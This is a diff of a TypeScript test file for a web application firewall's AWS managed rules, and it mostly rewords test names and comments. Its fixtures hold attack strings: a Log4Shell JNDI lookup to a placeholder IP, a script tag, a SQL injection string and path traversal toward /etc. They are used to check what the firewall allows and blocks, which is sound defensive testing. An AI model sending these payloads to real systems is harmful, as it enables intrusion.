@@ -1,4 +1,4 @@
-import { ROUTE_GROUPS } from '@prosa/shared/contracts/all-routes.ts';
+import { ROUTE_GROUPS } from '@prosa/infra/programs.ts';
 import { fullPathOf, type RouteGroup } from '@prosa/shared/contracts/route.ts';
 import { describe, expect, it } from 'vitest';
 import { countedIn, type EdgeCall, MANAGED_RULES, refusedBy } from './support/evaluate-firewall.ts';
@@ -14,9 +14,9 @@ const refused = (call: EdgeCall) =>
     headers: { host: 'app.example.com', 'user-agent': 'browser', ...call.headers },
   });
 
-/** Put together here: the linter would take it for a template. */
+/** Built from parts, because the linter would take it for a template. */
 const LOOKUP = '${jndi:ldap://203.0.113.9/a}';
-/** What people quote to one another in a chat. */
+/** Texts that users quote in a chat. */
 const WORDS = [
   '<script>alert(1)</script>',
   "' OR 1=1 --",
@@ -31,19 +31,19 @@ const WORDS = [
 ];
 const SEARCHED = WORDS.filter((text) => text.length < 500);
 
-describe('S-64 the firewall lets people write what they want', () => {
-  it.each(WORDS)('in a message: %s', (text) => {
+describe('S-64 requests that the firewall allows', () => {
+  it.each(WORDS)('a quoted text in a message: %s', (text) => {
     const body = JSON.stringify({ body: text });
     for (const path of ['/api/messages/0193f0e2', '/api/ticket-notes', '/external/messages/send'])
       expect(refused({ path, body }), path).toBeUndefined();
   });
 
-  it.each(SEARCHED)('in a search: %s', (text) => {
+  it.each(SEARCHED)('a quoted text in a search: %s', (text) => {
     const query = `searchParam=${encodeURIComponent(text)}&pageNumber=1`;
     expect(refused({ path: '/api/contacts', query })).toBeUndefined();
   });
 
-  it.each(WORDS)('in what a provider delivers, signed: %s', (text) => {
+  it.each(WORDS)('a quoted text in a signed delivery of a provider: %s', (text) => {
     const body = JSON.stringify({
       entry: [{ changes: [{ value: { messages: [{ text: { body: text } }] } }] }],
     });
@@ -51,12 +51,12 @@ describe('S-64 the firewall lets people write what they want', () => {
     expect(refused(call)).toBeUndefined();
   });
 
-  it('and other systems that name no user agent', () => {
+  it('a request of another system without a user agent', () => {
     expect(refusedBy(rules, { path: '/external/messages/send', headers: {} })).toBeUndefined();
   });
 });
 
-describe('S-64 and refuses', () => {
+describe('S-64 requests that the firewall refuses', () => {
   it.each<[string, EdgeCall, string]>([
     ['a path that climbs', { path: '/api/..%2f..%2fetc' }, 'GenericLFI_URIPATH'],
     ['scripts in a path', { path: '/%3Cscript%3E' }, 'CrossSiteScripting_URIPATH'],
@@ -69,7 +69,7 @@ describe('S-64 and refuses', () => {
     expect(refused(call)).toBe(rule);
   });
 
-  it('what only looks like a delivery', () => {
+  it('a request that only resembles a delivery', () => {
     for (const path of [
       '/api/webhooks/meta/../../..%2fetc',
       '/api/webhooks/../tickets',
@@ -81,13 +81,13 @@ describe('S-64 and refuses', () => {
   });
 });
 
-describe('R10 deliveries of providers', () => {
+describe('R10 rate limit for provider deliveries', () => {
   const webhooks = new Set(rows.filter(({ permission }) => permission === 'webhook').map(fullPathOf));
   const limits = resourcesOf('prosa-api', 'AWS::ApiGatewayV2::Stage').map((stage) =>
     propertyAt(stage, 'Properties.RouteSettings'),
   );
 
-  it.each([...webhooks])('%s: one address may send all that the route takes', (path) => {
+  it.each([...webhooks])('%s: one address may send as much as the route accepts', (path) => {
     const perSecond = limits.map((all) =>
       Number(propertyAt(propertyAt(all, `POST ${path}`), 'ThrottlingRateLimit')),
     );
@@ -98,8 +98,8 @@ describe('R10 deliveries of providers', () => {
   });
 });
 
-describe('the rules of AWS', () => {
-  it('are decided about one by one: what reads free text is counted, all else refuses', () => {
+describe('managed rules of AWS', () => {
+  it('only rules that read free text are set to count, and all others block', () => {
     expect(groups.map((group) => flat(propertyAt(group, 'Name')))).toEqual([
       'AWSManagedRulesKnownBadInputsRuleSet',
       'AWSManagedRulesCommonRuleSet',
@@ -109,7 +109,7 @@ describe('the rules of AWS', () => {
       const isText = (name: string) => /_(BODY|QUERYARGUMENTS|QUERYSTRING)$/.test(name);
       const exceptions = ['SizeRestrictions_QUERYSTRING', 'NoUserAgent_HEADER'];
       const counted = countedIn(group);
-      // An override of a rule that is not there fails the deployment.
+      // Overriding a rule that does not exist fails the deployment.
       expect(counted.filter((name) => !all.includes(name))).toEqual([]);
       expect(counted.filter((name) => !exceptions.includes(name)).toSorted()).toEqual(
         all.filter((name) => isText(name) && !exceptions.includes(name)).toSorted(),
@@ -117,7 +117,7 @@ describe('the rules of AWS', () => {
     }
   });
 
-  it('would be found out by these words, where one looked into what people write', () => {
+  it("each quoted text would trigger a rule that inspected users' texts", () => {
     const strict = (name: string) => [
       { Name: name, Priority: 9, Statement: { ManagedRuleGroupStatement: { Name: name } } },
     ];
